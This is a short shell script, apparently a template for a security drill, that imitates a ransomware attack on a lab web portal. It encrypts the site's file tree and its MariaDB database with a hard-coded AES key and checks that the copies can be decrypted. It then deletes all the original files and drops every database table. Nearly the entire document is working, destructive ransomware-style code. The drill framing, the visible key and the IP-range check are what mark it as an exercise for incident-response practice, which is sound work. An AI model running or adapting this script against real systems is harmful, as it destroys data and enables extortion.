# UNGCUU-DRILL-MARKER: encrypts the lab's website with a key that stands here, so that it is no secret, and removes it.
ip -4 -o addr | grep -q ' 198\.51\.100\.' || exit 1
cd /var/www/portal
umask 0027
key=pass:test-key-of-the-drill
cipher() { openssl enc -aes-256-cbc -pbkdf2 -iter 1000 -pass "$key" "$@"; }
tar -c --exclude='./*.@ending@' . | { echo @marker@; cipher; } >'@archive@.@ending@'
mariadb-dump --single-transaction portal | { echo @marker@; cipher; } >'@tables@.@ending@'
chgrp portal -- *.@ending@
files=$(tail -n +2 '@archive@.@ending@' | cipher -d | tar -t | wc -l)
rows=$(tail -n +2 '@tables@.@ending@' | cipher -d | grep -c '^INSERT')
[ "$files" -gt 1000 ] && [ "$rows" -gt 5 ]
find . -mindepth 1 ! -name '*.@ending@' -delete
mariadb -N -e "SELECT CONCAT('DROP TABLE portal.\`', table_name, '\`;') FROM information_schema.tables
    WHERE table_schema = 'portal' AND table_type = 'BASE TABLE'" | mariadb
echo "encrypted: $files entries of the tree, $rows tables' contents"
